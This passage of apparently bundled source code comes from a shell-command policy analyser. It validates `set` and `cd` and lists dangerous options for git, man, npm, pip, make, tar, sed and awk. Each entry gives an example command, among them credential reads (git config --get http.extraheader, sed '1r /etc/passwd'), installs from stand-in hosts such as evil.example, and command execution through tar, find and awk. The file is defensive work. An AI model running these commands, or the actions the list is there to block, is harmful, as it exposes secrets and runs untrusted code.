      deny("`set` without arguments prints every shell variable; print what you need instead");
    for (let i = 1; i < argv.length; i++) {
      const token = argv[i].value;
      if (token === "--") break;
      if (!/^[-+][A-Za-z]+$/.test(token))
        deny(
          `\`set ${token}\` is not accepted; only set -e, -u, -x, -v, -f, -E, -T and -o pipefail/errexit/nounset/xtrace`
        );
      for (const letter of token.slice(1)) {
        if (letter === "o") {
          const option = argv[++i]?.value ?? "";
          if (!SET_O.has(option))
            deny(
              `\`set -o ${option}\` is not accepted; only -o pipefail, errexit, nounset, xtrace, verbose, noglob`
            );
        } else if (!SET_LETTERS.includes(letter))
          deny(
            `\`set ${token}\` is not accepted; only set -e, -u, -x, -v, -f, -E, -T and -o pipefail/errexit/nounset/xtrace`
          );
      }
    }
    return "silent";
  }
  return "not-builtin";
}
function changeDirectory(argv, state, home, inLoop) {
  if (inLoop)
    deny("`cd` inside a loop is not accepted (the directory could change on every turn); cd before the loop");
  let i = 1;
  while (i < argv.length && /^-[LPe@]+$/.test(argv[i].value)) i++;
  if (argv[i]?.value === "--") i++;
  const target = argv[i];
  if (target?.value === "-")
    deny("`cd -` goes back to a directory this analysis does not track; cd to the directory by name");
  if (target?.glob === true || target?.processSubstitution === true)
    deny("`cd` needs a directory named literally (no glob or process substitution)");
  const dir = target === void 0 ? home : target.value;
  const uses = pathUses("read", dir, "operand", { cwds: state.cwds });
  const targets = directoryCandidates(dir, state.cwds);
  const next = [.../* @__PURE__ */ new Set([...state.cwds, ...targets])];
  if (next.length > MAX_WORKING_DIRECTORIES)
    deny(
      `the command changes directory too many ways (more than ${MAX_WORKING_DIRECTORIES} possible working directories); split it into several calls`
    );
  state.cwds = next;
  return { uses, targets };
}

// src/policy/shell/dangerous-reads.ts
var NAMES_FROM_FILE = "reads the names of the files to read from a file or standard input, which this analysis does not see; name the files on the command line";
var MAN_FILE = "formats a page file from the disk, whose requests (.so) read other files and whose first line chooses preprocessor programs; read the file with cat, or name a page (man git-log)";
var MAN_CONFIG = "reads a man-db configuration file, which names the programs man runs (DEFINE nroff …)";
var MAN_PATH = "looks pages up in another directory, whose pages can read other files (.so)";
var MAN_PREPROCESSOR = "chooses the preprocessor programs man runs";
var GIT_PATHSPEC = "is a pathspec pattern git matches itself, against files that may include secret-like ones; name the files or directories (git log -- src)";
var GIT_OBJECT = "prints an object named by id or read from standard input, which may be a secret-like file's content; name it as REV:path (git show HEAD:src/a.ts) so the path can be judged";
var GIT_LISTING = "lists configuration values, which can include credentials (http.*.extraheader, url.*.insteadOf, credential.*); ask for one value with git config --get NAME";
var GIT_CREDENTIAL_KEY = "asks for a configuration value that can hold credentials (http.*, credential.*, url.*, include paths, tokens, passwords)";
var READ_ROWS = [
  {
    program: "git",
    option: "--work-tree",
    reason: "reads the working tree's files from another directory, under the names git tracks (git --work-tree=.git diff -- config reads .git/config)",
    example: "git --work-tree=.git diff -- config"
  },
  { program: "git", option: "<pathspec pattern>", reason: GIT_PATHSPEC, example: "git log -p -- '*.env'" },
  {
    program: "git",
    option: "<object>",
    reason: GIT_OBJECT,
    example: "git cat-file -p 3b18e512dba79e4c8300dd08aeb37f8e728b8dad"
  },
  { program: "git", option: "<config listing>", reason: GIT_LISTING, example: "git config --list" },
  {
    program: "git",
    option: "<credential key>",
    reason: GIT_CREDENTIAL_KEY,
    example: "git config --get http.extraheader"
  },
  { program: "man", option: "-C", reason: MAN_CONFIG, example: "man -C /dev/stdin -l README.md" },
  { program: "man", option: "--config-file", reason: MAN_CONFIG, example: "man --config-file=cfg git" },
  { program: "man", option: "-l", reason: MAN_FILE, example: "man -l README.md" },
  { program: "man", option: "--local-file", reason: MAN_FILE, example: "man --local-file README.md" },
  { program: "man", option: "<page file>", reason: MAN_FILE, example: "man ./docs/x.1" },
  { program: "man", option: "-M", reason: MAN_PATH, example: "man -M ./pages git" },
  { program: "man", option: "--manpath", reason: MAN_PATH, example: "man --manpath=./pages git" },
  { program: "man", option: "-p", reason: MAN_PREPROCESSOR, example: "man -p tr git" },
  {
    program: "man",
    option: "--preprocessor",
    reason: MAN_PREPROCESSOR,
    example: "man --preprocessor=tr git"
  },
  { program: "man", option: "-X", reason: "opens the page in an X viewer program", example: "man -X git" },
  {
    program: "man",
    option: "--gxditview",
    reason: "opens the page in an X viewer program",
    example: "man --gxditview git"
  },
  { program: "wc", option: "--files0-from", reason: NAMES_FROM_FILE, example: "wc --files0-from=- -l" },
  { program: "du", option: "--files0-from", reason: NAMES_FROM_FILE, example: "du --files0-from=list" },
  { program: "sort", option: "--files0-from", reason: NAMES_FROM_FILE, example: "sort --files0-from=-" },
  { program: "file", option: "-f", reason: NAMES_FROM_FILE, example: "file -f list" },
  { program: "file", option: "--files-from", reason: NAMES_FROM_FILE, example: "file --files-from=list" },
  { program: "tar", option: "-T", reason: NAMES_FROM_FILE, example: "tar -cf - -T list" },
  { program: "tar", option: "--files-from", reason: NAMES_FROM_FILE, example: "tar -cf - --files-from=list" },
  { program: "find", option: "-files0-from", reason: NAMES_FROM_FILE, example: "find -files0-from list" },
  {
    program: "strings",
    option: "<response file>",
    reason: "names a response file (@FILE) whose contents become more arguments, which this analysis does not see",
    example: "strings @args.txt"
  },
  {
    program: "tree",
    option: "-R",
    reason: "runs tree again in every directory, writing a listing file (00Tree.html) there",
    example: "tree -R -L 1 -H . -o index.html"
  },
  {
    program: "jq",
    option: "<module import>",
    reason: "imports modules or data files (import, include), found in directories the command line does not name",
    example: `jq 'import "cfg" as $c; .' a.json`
  },
  {
    program: "jq",
    option: "-f",
    reason: "reads its filter from a file, which is not analysed (a filter can import other files)",
    example: "jq -f filter.jq a.json"
  },
  {
    program: "jq",
    option: "--from-file",
    reason: "reads its filter from a file, which is not analysed (a filter can import other files)",
    example: "jq --from-file filter.jq a.json"
  }
];

// src/policy/shell/dangerous-runners.ts
function rows(program, reason, list) {
  return list.map(([option, example]) => ({ program, option, reason, example }));
}
var CONFIG_OPTION = (runner2) => `is an option ${runner2} reads as its own configuration (it reads every option it does not know that way, and configuration can name programs to run: script-shell, node-options, git); put the script's own options after --, or name the option in the rule`;
var OTHER_PACKAGES = "runs in other packages of the workspace, whose scripts the rule was not written for";
var ELSEWHERE = "runs in another directory, with that directory's project files and configuration";
var GLOBAL = "works on the global installation, outside the workspace";
var WRITES = "writes a file the command line names";
var INDEX = "installs packages from another index or location";
var INSTALL_DIR = "installs into another directory";
var LOADS = "loads code before the script runs";
var RUNNER_ROWS = [
  ...rows("npm", CONFIG_OPTION("npm"), [["<npm option>", "npm run lint --script-shell=./evil.sh"]]),
  ...rows("npm", OTHER_PACKAGES, [
    ["-w", "npm run lint -w ../.."],
    ["--workspace", "npm run lint --workspace=../.."],
    ["--workspaces", "npm run lint --workspaces"],
    ["--ws", "npm run lint --ws"]
  ]),
  ...rows("npm", GLOBAL, [
    ["-g", "npm ls -g"],
    ["--global", "npm ls --global"]
  ]),
  ...rows("npm", ELSEWHERE, [
    ["-C", "npm run lint -C .."],
    ["--prefix", "npm run lint --prefix=.."]
  ]),
  ...rows("npx", CONFIG_OPTION("npx"), [["<npx option>", "npx --node-options=--require=./x.js vitest"]]),
  ...rows("npx", OTHER_PACKAGES, [
    ["-w", "npx -w ../.. vitest"],
    ["--workspace", "npx --workspace=../.. vitest"],
    ["--workspaces", "npx --workspaces vitest"],
    ["--ws", "npx --ws vitest"]
  ]),
  ...rows("npx", GLOBAL, [
    ["-g", "npx -g vitest"],
    ["--global", "npx --global vitest"]
  ]),
  ...rows("npx", ELSEWHERE, [
    ["-C", "npx -C .. vitest"],
    ["--prefix", "npx --prefix=.. vitest"]
  ]),
  ...rows("npx", "installs and runs a package the command does not name as the program", [
    ["-p", "npx -p evil vitest"],
    ["--package", "npx --package=evil vitest"]
  ]),
  ...rows("npx", "runs a shell command given on the command line", [
    ["-c", "npx -c 'id'"],
    ["--call", "npx --call='id'"]
  ]),
  ...rows("npx", "names the shell program that runs the command", [["--shell", "npx --shell=./x vitest"]]),
  ...rows("pnpm", CONFIG_OPTION("pnpm"), [["<pnpm option>", "pnpm --config.script-shell=./x run lint"]]),
  ...rows("pnpm", ELSEWHERE, [
    ["-C", "pnpm -C .. run lint"],
    ["--dir", "pnpm --dir=.. run lint"]
  ]),
  ...rows("pnpm", OTHER_PACKAGES, [
    ["--filter", "pnpm --filter x run lint"],
    ["-F", "pnpm -F x run lint"],
    ["--filter-prod", "pnpm --filter-prod x run lint"],
    ["-r", "pnpm -r run lint"],
    ["--recursive", "pnpm --recursive run lint"],
    ["-w", "pnpm -w run lint"],
    ["--workspace-root", "pnpm --workspace-root run lint"]
  ]),
  ...rows("pnpm", GLOBAL, [
    ["-g", "pnpm -g ls"],
    ["--global", "pnpm --global ls"]
  ]),
  ...rows("pnpm", "changes the shell that runs scripts", [
    ["--shell-emulator", "pnpm --shell-emulator run lint"]
  ]),
  ...rows("yarn", CONFIG_OPTION("yarn"), [["<yarn option>", "yarn --ignore-engines-x run lint"]]),
  ...rows("yarn", ELSEWHERE, [["--cwd", "yarn --cwd .. lint"]]),
  ...rows("yarn", "reads another configuration file, which can name a yarn program to run (yarn-path)", [
    ["--use-yarnrc", "yarn --use-yarnrc ./x lint"]
  ]),
  ...rows("yarn", "puts packages or its cache in another directory", [
    ["--modules-folder", "yarn install --modules-folder=../x"],
    ["--global-folder", "yarn install --global-folder=../x"],
    ["--cache-folder", "yarn install --cache-folder=../x"],
    ["--preferred-cache-folder", "yarn install --preferred-cache-folder=../x"]
  ]),
  ...rows("yarn", INDEX, [["--registry", "yarn install --registry=https://evil.example"]]),
  ...rows("yarn", GLOBAL, [
    ["-g", "yarn -g add x"],
    ["--global", "yarn --global add x"]
  ]),
  ...rows("bun", CONFIG_OPTION("bun"), [["<bun option>", "bun --hot run lint"]]),
  ...rows("bun", ELSEWHERE, [["--cwd", "bun --cwd .. run lint"]]),
  ...rows("bun", LOADS, [
    ["-r", "bun -r ./x.ts run lint"],
    ["--preload", "bun test --preload ./x.ts"],
    ["--require", "bun --require=./x.ts run lint"],
    ["--import", "bun --import=./x.ts run lint"]
  ]),
  ...rows("bun", "reads another configuration file (bunfig.toml), which can preload code", [
    ["-c", "bun -c ./x.toml run lint"],
    ["--config", "bun --config=./x.toml test"]
  ]),
  ...rows("bun", "loads environment variables from a file, which can change what programs run", [
    ["--env-file", "bun --env-file=./x run lint"]
  ]),
  ...rows("bun", "names the shell that runs scripts", [["--shell", "bun --shell=system run lint"]]),
  ...rows("bun", "changes how the code it runs is compiled or loaded", [
    ["--tsconfig-override", "bun --tsconfig-override=./x.json test"],
    ["--define", "bun --define x:1 test"],
    ["-d", "bun -d x:1 test"],
    ["--loader", "bun --loader .x:js test"],
    ["-l", "bun -l .x:js test"]
  ]),
  ...rows("make", "reads another makefile, whose recipes it runs", [
    ["-f", "make -f evil.mk test"],
    ["--file", "make --file=evil.mk test"],
    ["--makefile", "make --makefile=evil.mk test"]
  ]),
  ...rows("make", ELSEWHERE, [
    ["-C", "make -C .. test"],
    ["--directory", "make --directory=.. test"]
  ]),
  ...rows("make", "looks for included makefiles in another directory", [
    ["-I", "make -I ./x test"],
    ["--include-dir", "make --include-dir=./x test"]
  ]),
  ...rows("make", "evaluates makefile text given on the command line", [
    ["--eval", "make --eval='x: ; id' test"],
    ["-E", "make -E 'x: ; id' test"]
  ]),
  ...rows("make", "lets environment variables override the makefile's", [
    ["-e", "make -e test"],
    ["--environment-overrides", "make --environment-overrides test"]
  ]),
  ...rows("make", "overrides a makefile variable (SHELL, CC, MAKE…), which can name the programs make runs", [
    ["<variable>", "make test SHELL=./evil.sh"]
  ]),
  ...rows(
    "cargo",
    "sets cargo configuration, which can name programs to run (target.*.runner, build.rustc-wrapper)",
    [["--config", "cargo test --config target.x.runner='./x'"]]
  ),
  ...rows("cargo", "turns on unstable features, some of which read configuration or run programs", [
    ["-Z", "cargo test -Zunstable-options"]
  ]),
  ...rows("cargo", "builds another package, whose build scripts run", [
    ["--manifest-path", "cargo test --manifest-path=../x/Cargo.toml"]
  ]),
  ...rows("cargo", ELSEWHERE, [["-C", "cargo -C .. test"]]),
  ...rows("cargo", "writes build output to another directory", [
    ["--target-dir", "cargo test --target-dir=/tmp/x"],
    ["--artifact-dir", "cargo build --artifact-dir=/tmp/x"],
    ["--lockfile-path", "cargo test --lockfile-path=/tmp/x.lock"]
  ]),
  ...rows("pip", INDEX, [
    ["-i", "pip install -i https://evil.example x"],
    ["--index-url", "pip install --index-url=https://evil.example x"],
    ["--extra-index-url", "pip install --extra-index-url=https://evil.example x"],
    ["-f", "pip install -f ./x x"],
    ["--find-links", "pip install --find-links=./x x"],
    ["--trusted-host", "pip install --trusted-host=evil.example x"]
  ]),
  ...rows("pip", "sends its traffic through another host", [
    ["--proxy", "pip install --proxy=evil.example x"]
  ]),
  ...rows("pip", "reads a certificate file the command line names", [
    ["--cert", "pip install --cert=./x.pem x"],
    ["--client-cert", "pip install --client-cert=./x.pem x"]
  ]),
  ...rows("pip", INSTALL_DIR, [
    ["-t", "pip install -t /tmp/x x"],
    ["--target", "pip install --target=/tmp/x x"],
    ["--prefix", "pip install --prefix=/tmp/x x"],
    ["--root", "pip install --root=/tmp/x x"],
    ["--src", "pip install --src=/tmp/x x"],
    ["--cache-dir", "pip install --cache-dir=/tmp/x x"]
  ]),
  ...rows("pip", WRITES, [
    ["--log", "pip install --log=/tmp/x x"],
    ["--log-file", "pip install --log-file=/tmp/x x"],
    ["--report", "pip install --report=/tmp/x x"]
  ]),
  ...rows("pip", "passes options to package builds, which run code", [
    ["-C", "pip install -C x=y x"],
    ["--config-settings", "pip install --config-settings=x=y x"],
    ["--global-option", "pip install --global-option=x x"],
    ["--build-option", "pip install --build-option=x x"],
    ["--install-option", "pip install --install-option=x x"]
  ]),
  ...rows("uv", INDEX, [
    ["--index-url", "uv pip install --index-url=https://evil.example x"],
    ["--extra-index-url", "uv pip install --extra-index-url=https://evil.example x"],
    ["--index", "uv sync --index=https://evil.example"],
    ["--default-index", "uv sync --default-index=https://evil.example"],
    ["-i", "uv pip install -i https://evil.example x"],
    ["--find-links", "uv pip install --find-links=./x x"],
    ["-f", "uv pip install -f ./x x"]
  ]),
  ...rows("uv", "reads another configuration file", [
    ["--config-file", "uv run --config-file=./x.toml pytest"]
  ]),
  ...rows("uv", ELSEWHERE, [
    ["--directory", "uv run --directory=.. pytest"],
    ["--project", "uv run --project=.. pytest"]
  ]),
  ...rows("uv", "chooses the Python interpreter, which can be any program", [
    ["--python", "uv run --python=./x pytest"],
    ["-p", "uv run -p ./x pytest"]
  ]),
  ...rows("uv", "adds packages to the environment the command runs in", [
    ["--with", "uv run --with=evil pytest"],
    ["--with-requirements", "uv run --with-requirements=./x.txt pytest"],
    ["--with-editable", "uv run --with-editable=./x pytest"]
  ]),
  ...rows("uv", "loads environment variables from a file, which can change what programs run", [
    ["--env-file", "uv run --env-file=./x pytest"]
  ]),
  ...rows("uv", "keeps its cache in another directory", [
    ["--cache-dir", "uv run --cache-dir=/tmp/x pytest"]
  ]),
  ...rows("poetry", ELSEWHERE, [
    ["-C", "poetry -C .. run pytest"],
    ["--directory", "poetry --directory=.. run pytest"],
    ["-P", "poetry -P .. run pytest"],
    ["--project", "poetry --project=.. run pytest"]
  ]),
  ...rows("pytest", "loads a plugin module, which runs its code", [["-p", "pytest -p evil"]]),
  ...rows("pytest", "reads another configuration file, which can add options and plugins", [
    ["-c", "pytest -c ./x.ini"],
    ["--config-file", "pytest --config-file=./x.ini"]
  ]),
  ...rows("pytest", "changes where conftest.py files, which run code, are collected from", [
    ["--rootdir", "pytest --rootdir=.."],
    ["--confcutdir", "pytest --confcutdir=/"]
  ]),
  ...rows("pytest", "overrides configuration values, such as addopts (which can load plugins)", [
    ["-o", "pytest -o addopts='-p evil'"],
    ["--override-ini", "pytest --override-ini=addopts=-pevil"]
  ]),
  ...rows("pytest", "uses another directory for temporary files, and empties it first", [
    ["--basetemp", "pytest --basetemp=/tmp/x"]
  ]),
  ...rows("pytest", WRITES, [
    ["--junitxml", "pytest --junitxml=/tmp/x.xml"],
    ["--junit-xml", "pytest --junit-xml=/tmp/x.xml"],
    ["--debug", "pytest --debug=/tmp/x.log"],
    ["--log-file", "pytest --log-file=/tmp/x.log"],
    ["--report-log", "pytest --report-log=/tmp/x.log"],
    ["--resultlog", "pytest --resultlog=/tmp/x.log"],
    ["--cache-dir", "pytest --cache-dir=/tmp/x"]
  ]),
  ...rows("pytest", "sends the results to a paste service", [["--pastebin", "pytest --pastebin=all"]]),
  ...rows("go", "runs the test binary through another program", [
    ["-exec", "go test -exec ./x ./..."],
    ["--exec", "go test --exec=./x ./..."]
  ]),
  ...rows("go", "runs every build tool through another program", [
    ["-toolexec", "go test -toolexec=./x ./..."],
    ["--toolexec", "go test --toolexec ./x ./..."]
  ]),
  ...rows("go", ELSEWHERE, [
    ["-C", "go -C .. test ./..."],
    ["--C", "go --C=.. test ./..."]
  ]),
  ...rows("go", "reads build configuration from another file", [
    ["-modfile", "go test -modfile=./x.mod ./..."],
    ["--modfile", "go test --modfile=./x.mod ./..."],
    ["-overlay", "go test -overlay=./x.json ./..."],
    ["--overlay", "go test --overlay=./x.json ./..."],
    ["-pgo", "go build -pgo=./x.pprof"],
    ["--pgo", "go build --pgo=./x.pprof"]
  ]),
  ...rows("go", "passes flags to the compiler or linker, which can name programs to run (-extld)", [
    ["-ldflags", "go test -ldflags=-extld=./x ./..."],
    ["--ldflags", "go test --ldflags=-extld=./x ./..."],
    ["-gcflags", "go test -gcflags=x ./..."],
    ["--gcflags", "go test --gcflags=x ./..."],
    ["-asmflags", "go test -asmflags=x ./..."],
    ["--asmflags", "go test --asmflags=x ./..."],
    ["-gccgoflags", "go test -gccgoflags=x ./..."],
    ["--gccgoflags", "go test --gccgoflags=x ./..."],
    ["-compiler", "go build -compiler=gccgo"],
    ["--compiler", "go build --compiler=gccgo"]
  ]),
  ...rows(
    "go",
    WRITES,
    [
      "-o",
      "-coverprofile",
      "-cpuprofile",
      "-memprofile",
      "-blockprofile",
      "-mutexprofile",
      "-trace",
      "-outputdir",
      "-pkgdir"
    ].flatMap((o) => [
      [o, `go test ${o}=/tmp/x ./...`],
      [`-${o}`, `go test -${o}=/tmp/x ./...`]
    ])
  ),
  ...rows("gradle", "runs an init script, which is code", [
    ["-I", "gradle -I ./x.gradle test"],
    ["--init-script", "gradle --init-script=./x.gradle test"]
  ]),
  ...rows("gradle", "builds another project or build file, whose build scripts run", [
    ["-p", "gradle -p .. test"],
    ["--project-dir", "gradle --project-dir=.. test"],
    ["-b", "gradle -b ./x.gradle test"],
    ["--build-file", "gradle --build-file=./x.gradle test"],
    ["-c", "gradle -c ./x.gradle test"],
    ["--settings-file", "gradle --settings-file=./x.gradle test"],
    ["--include-build", "gradle --include-build=../x test"]
  ]),
  ...rows("gradle", "reads gradle configuration and init scripts from another directory", [
    ["-g", "gradle -g /tmp/x test"],
    ["--gradle-user-home", "gradle --gradle-user-home=/tmp/x test"]
  ]),
  ...rows("gradle", "sets properties the JVM or the build reads, which can name agents and programs to run", [
    ["-D", "gradle test -Dorg.gradle.jvmargs=-javaagent:x.jar"],
    ["--system-prop", "gradle test --system-prop=x=y"],
    ["-P", "gradle test -Px=y"],
    ["--project-prop", "gradle test --project-prop=x=y"]
  ]),
  ...rows("mvn", "builds another project file, whose plugins run", [
    ["-f", "mvn -f ../x/pom.xml test"],
    ["--file", "mvn --file=../x/pom.xml test"]
  ]),
  ...rows("mvn", "reads another settings or toolchains file (repositories, proxies, the JDK to run)", [
    ["-s", "mvn -s ./x.xml test"],
    ["--settings", "mvn --settings=./x.xml test"],
    ["-gs", "mvn -gs ./x.xml test"],
    ["--global-settings", "mvn --global-settings=./x.xml test"],
    ["-t", "mvn -t ./x.xml test"],
    ["--toolchains", "mvn --toolchains=./x.xml test"],
    ["-gt", "mvn -gt ./x.xml test"],
    ["--global-toolchains", "mvn --global-toolchains=./x.xml test"]
  ]),
  ...rows("mvn", "sets system properties the build's plugins read, which can name programs to run", [
    ["-D", "mvn test -Dexec.executable=./x"],
    ["--define", "mvn test --define=exec.executable=./x"]
  ]),
  ...rows("mvn", WRITES, [
    ["-l", "mvn -l /tmp/x test"],
    ["--log-file", "mvn --log-file=/tmp/x test"]
  ])
];

// src/policy/shell/dangerous-options.ts
var GIT_CONFIG = "sets git configuration for this run, and configuration can name programs to run (core.pager, core.fsmonitor, core.sshCommand, aliases)";
var FIND_EXEC = "runs a command for every file found";
var FIND_WRITE = "writes the listing to a file";
var SED_WRITE = "writes to a file";
var SED_READ = "reads a file the command line does not name";
var INLINE = "runs program text given on the command line";
var AWK = `${INLINE} that this analysis does not accept: awk programs run commands (system, pipes with |), read files the command line does not name (getline, ARGV) and write files (print > file); a program without these, gawk's @ directives and extension() is read-only`;
var DANGEROUS_OPTIONS = [
  // git, before the subcommand
  { program: "git", option: "-c", reason: GIT_CONFIG, example: "git -c core.pager=cat log" },
  {
    program: "git",
    option: "--config-env",
    reason: GIT_CONFIG,
    example: "git --config-env=core.pager=EDITOR log"
  },
  {
    program: "git",
    option: "--exec-path",
    reason: "makes git run its subcommands from another directory",
    example: "git --exec-path=/tmp/x log"
  },
  {
    program: "git",
    option: "-p",
    reason: "pipes the output through a pager program chosen by configuration",
    example: "git -p log"
  },
  {
    program: "git",
    option: "--paginate",
    reason: "pipes the output through a pager program chosen by configuration",
    example: "git --paginate log"
  },
  {
    program: "git",
    option: "--git-dir",
    reason: "uses another repository, whose configuration can name programs to run",
    example: "git --git-dir=/tmp/r/.git log"
  },
  {
    program: "git",
    option: "--bare",
    reason: "treats the working directory as a repository, whose configuration can name programs to run",
    example: "git --bare log"
  },
  {
    program: "git",
    option: "<alias>",
    reason: "is not a built-in git command: an alias or a git-<name> program can run anything",
    example: "git lg"
  },
  // git, after the subcommand
  {
    program: "git",
    option: "--output",
    reason: "writes the output to a file",
    example: "git diff --output=/tmp/x"
  },
  {
    program: "git",
    option: "--ext-diff",
    reason: "runs the external diff program named in configuration",
    example: "git log -p --ext-diff"
  },
  {
    program: "git",
    option: "--textconv",
    reason: "runs the text conversion programs named in configuration",
    example: "git show --textconv HEAD"
  },
  {
    program: "git",
    option: "--upload-pack",
    reason: "names the program git runs to fetch, which can be any local program",
    example: "git ls-remote --upload-pack=/tmp/x origin"
  },
  {
    program: "git",
    option: "--receive-pack",
    reason: "names the program git runs to push, which can be any local program",
    example: "git push --receive-pack=/tmp/x origin"
  },
  {
    program: "git",
    option: "--exec",
    reason: "names the program git runs on the other side, which can be any local program",
    example: "git archive --exec=/tmp/x --remote=origin HEAD"
  },
  {
    program: "git",
    option: "--open-files-in-pager",
    reason: "opens the matching files in a pager program",
    example: "git grep --open-files-in-pager foo"
  },
  {
    program: "git",
    option: "-O",
    reason: "opens the matching files in a pager program (git grep -O)",
    example: "git grep -O foo"
  },
  {
    program: "git",
    option: "--filters",
    reason: "runs the filter programs named in configuration",
    example: "git cat-file --filters HEAD:a"
  },
  {
    program: "git",
    option: "--config",
    reason: GIT_CONFIG,
    example: "git clone --config core.sshCommand=./x origin"
  },
  {
    program: "git",
    option: "-x",
    reason: "runs a command (git rebase -x, git difftool -x)",
    example: "git rebase -x ./x main"
  },
  {
    program: "git",
    option: "--extcmd",
    reason: "runs a command to show each diff",
    example: "git difftool --extcmd=./x"
  },
  {
    program: "git",
    option: "foreach",
    reason: "runs a command in every submodule (git submodule foreach)",
    example: "git submodule foreach ./x"
  },
  {
    program: "git",
    option: "run",
    reason: "runs a command at every step (git bisect run)",
    example: "git bisect run ./x"
  },
  // find
  { program: "find", option: "-exec", reason: FIND_EXEC, example: "find . -exec rm {} ;" },
  { program: "find", option: "-execdir", reason: FIND_EXEC, example: "find . -execdir id ;" },
  { program: "find", option: "-ok", reason: FIND_EXEC, example: "find . -ok id ;" },
  { program: "find", option: "-okdir", reason: FIND_EXEC, example: "find . -okdir id ;" },
  {
    program: "find",
    option: "-delete",
    reason: "deletes the files found",
    example: "find . -name x -delete"
  },
  { program: "find", option: "-fprint", reason: FIND_WRITE, example: "find . -fprint /tmp/x" },
  { program: "find", option: "-fprint0", reason: FIND_WRITE, example: "find . -fprint0 /tmp/x" },
  { program: "find", option: "-fprintf", reason: FIND_WRITE, example: "find . -fprintf /tmp/x %p" },
  { program: "find", option: "-fls", reason: FIND_WRITE, example: "find . -fls /tmp/x" },
  {
    program: "find",
    option: "<predicate>",
    reason: "is not a find expression this analysis knows",
    example: "find . -frobnicate"
  },
  // sed
  { program: "sed", option: "-i", reason: "edits files in place", example: "sed -i s/a/b/ a" },
  {
    program: "sed",
    option: "--in-place",
    reason: "edits files in place",
    example: "sed --in-place s/a/b/ a"
  },
  {
    program: "sed",
    option: "-f",
    reason: "reads its script from a file, which is not analysed",
    example: "sed -f script.sed a"
  },
  {
    program: "sed",
    option: "--file",
    reason: "reads its script from a file, which is not analysed",
    example: "sed --file=script.sed a"
  },
  {
    program: "sed",
    option: "e",
    reason: "runs a shell command (the sed e command)",
    example: "sed -n '1e id' a"
  },
  {
    program: "sed",
    option: "s///e",
    reason: "runs the result of a substitution as a shell command",
    example: "sed -n 's/x/y/e' a"
  },
  { program: "sed", option: "w", reason: SED_WRITE, example: "sed -n '2w /tmp/x' a" },
  { program: "sed", option: "W", reason: SED_WRITE, example: "sed -n '2W /tmp/x' a" },
  { program: "sed", option: "s///w", reason: SED_WRITE, example: "sed -n 's/x/y/w /tmp/x' a" },
  { program: "sed", option: "r", reason: SED_READ, example: "sed '1r /etc/passwd' a" },
  { program: "sed", option: "R", reason: SED_READ, example: "sed '1R /etc/passwd' a" },
  {
    program: "sed",
    option: "<script>",
    reason: "has a script this analysis could not read",
    example: "sed -n '1k' a"
  },
  // ripgrep
  {
    program: "rg",
    option: "--pre",
    reason: "runs a preprocessor program on every file searched",
    example: "rg --pre ./x.sh foo"
  },
  {
    program: "rg",
    option: "--pre-glob",
    reason: "chooses the files a --pre program runs on",
    example: "rg --pre-glob '*.pdf' foo"
  },
  {
    program: "rg",
    option: "--hostname-bin",
    reason: "runs a program to learn the host name",
    example: "rg --hostname-bin ./x foo"
  },
  // sort
  { program: "sort", option: "-o", reason: "writes the result to a file", example: "sort -o /tmp/x a" },
  {
    program: "sort",
    option: "--output",
    reason: "writes the result to a file",
    example: "sort --output=/tmp/x a"
  },
  {
    program: "sort",
    option: "--compress-program",
    reason: "runs a program to compress temporary files",
    example: "sort --compress-program=./x a"
  },
  // tar
  {
    program: "tar",
    option: "--checkpoint-action",
    reason: "runs an action, including any command, at checkpoints",
    example: "tar --checkpoint=1 --checkpoint-action=exec=id -cf a.tar b"
  },
  {
    program: "tar",
    option: "--to-command",
    reason: "pipes every extracted file into a command",
    example: "tar -xf a.tar --to-command=id"
  },
  {
    program: "tar",
    option: "--use-compress-program",
    reason: "runs a program to compress or decompress",
    example: "tar --use-compress-program=./x -tf a.tar"
  },
  {
    program: "tar",
    option: "-I",
    reason: "runs a program to compress or decompress",
    example: "tar -I ./x -tf a.tar"
  },
  {
    program: "tar",
    option: "--info-script",
    reason: "runs a script at the end of each volume",
    example: "tar --info-script=./x -tf a.tar"
  },
  {
    program: "tar",
    option: "--new-volume-script",
    reason: "runs a script at the end of each volume",
    example: "tar --new-volume-script=./x -tf a.tar"
  },
  {
    program: "tar",
    option: "-F",
    reason: "runs a script at the end of each volume",
    example: "tar -F ./x -tf a.tar"
  },
  {
    program: "tar",
    option: "--rsh-command",
    reason: "runs a remote shell program",
    example: "tar --rsh-command=./x -tf h:a.tar"
  },
  {
    program: "tar",
    option: "--rmt-command",
    reason: "runs a remote tape program",
    example: "tar --rmt-command=./x -tf h:a.tar"
  },
  {
    program: "tar",
    option: "--absolute-names",
    reason: "keeps absolute names and '..' in member names, so files can land anywhere",
    example: "tar --absolute-names -xf a.tar"
  },
  {
    program: "tar",
    option: "-P",
    reason: "keeps absolute names and '..' in member names, so files can land anywhere",
    example: "tar -P -xf a.tar"
  },
  {
    program: "unzip",
    option: "-:",
    reason: "keeps '..' and absolute names in member names, so files can land anywhere",
    example: "unzip -: a.zip"
  },
  {
    program: "tar",
    option: "<remote archive>",
    reason: "names an archive on another host (host:file), opened through a remote shell",
    example: "tar -tf evil:a.tar"
  },
  // man
  { program: "man", option: "-H", reason: "opens the page in a web browser program", example: "man -H git" },
  {
    program: "man",
    option: "--html",
    reason: "opens the page in a web browser program",
    example: "man --html git"
  },
  { program: "man", option: "-P", reason: "runs the named pager program", example: "man -P ./x git" },
  {
    program: "man",
    option: "--pager",
    reason: "runs the named pager program",
    example: "man --pager=./x git"
  },
  // tree
  { program: "tree", option: "-o", reason: "writes the listing to a file", example: "tree -o /tmp/x" },
  // interpreters with program text on the command line
  { program: "awk", option: "<program>", reason: AWK, example: `awk '{system("id")}' a` },
  { program: "awk", option: "-e", reason: AWK, example: `gawk -e 'BEGIN{print > "x"}' a` },
  { program: "awk", option: "--source", reason: AWK, example: `gawk --source='{print | "sh"}' a` },
  { program: "perl", option: "-e", reason: INLINE, example: "perl -e 'print 1'" },
  { program: "perl", option: "-E", reason: INLINE, example: "perl -E 'say 1'" },
  { program: "python", option: "-c", reason: INLINE, example: "python3 -c 'print(1)'" },
  { program: "node", option: "-e", reason: INLINE, example: "node -e 'process.exit(0)'" },
  { program: "node", option: "--eval", reason: INLINE, example: "node --eval '1'" },
  { program: "node", option: "-p", reason: INLINE, example: "node -p '1'" },
  { program: "node", option: "--print", reason: INLINE, example: "node --print '1'" },
  { program: "ruby", option: "-e", reason: INLINE, example: "ruby -e 'p 1'" },
  { program: "php", option: "-r", reason: INLINE, example: "php -r 'echo 1;'" },
  { program: "php", option: "-B", reason: INLINE, example: "php -B 'echo 1;'" },
